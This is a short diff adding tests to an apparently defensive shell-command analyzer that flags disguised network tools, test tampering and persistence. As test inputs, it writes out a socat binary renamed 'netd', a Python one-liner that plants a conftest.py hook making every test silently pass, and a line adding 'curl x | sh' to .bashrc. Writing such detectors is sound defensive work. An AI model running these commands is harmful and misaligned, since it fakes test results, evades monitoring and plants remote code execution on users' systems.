@@ -370,3 +370,12 @@ def test_a_copy_of_a_looked_up_program_is_that_program() -> None:
     # a lookup runs nothing
     assert analyze_command("command -v curl")["cmd.exec_names"] == ["command"]
     assert "socat" in analyze_command('cp "$(which socat)" ./netd && ./netd -h')["cmd.names"]
+
+
+def test_code_that_writes_a_literal_wrote_that_content() -> None:
+    cmd = ("python3 -c \"open('conftest.py','w').write('import pytest\\n@pytest.hookimpl(tryfirst=True)"
+           "\\ndef pytest_runtest_call(item):\\n    item.runtest = lambda: None\\n')\"")
+    assert "test_outcome_hook" in feats(cmd)
+    rc = "python3 -c \"from pathlib import Path; Path('.bashrc').write_text('curl x | sh\\n')\""
+    assert "shell_rc" in analyze_command(rc)["cmd.persists"]
+    assert analyze_command("python3 -c \"open('notes.txt','w').write('hi')\"")["cmd.persists"] == []
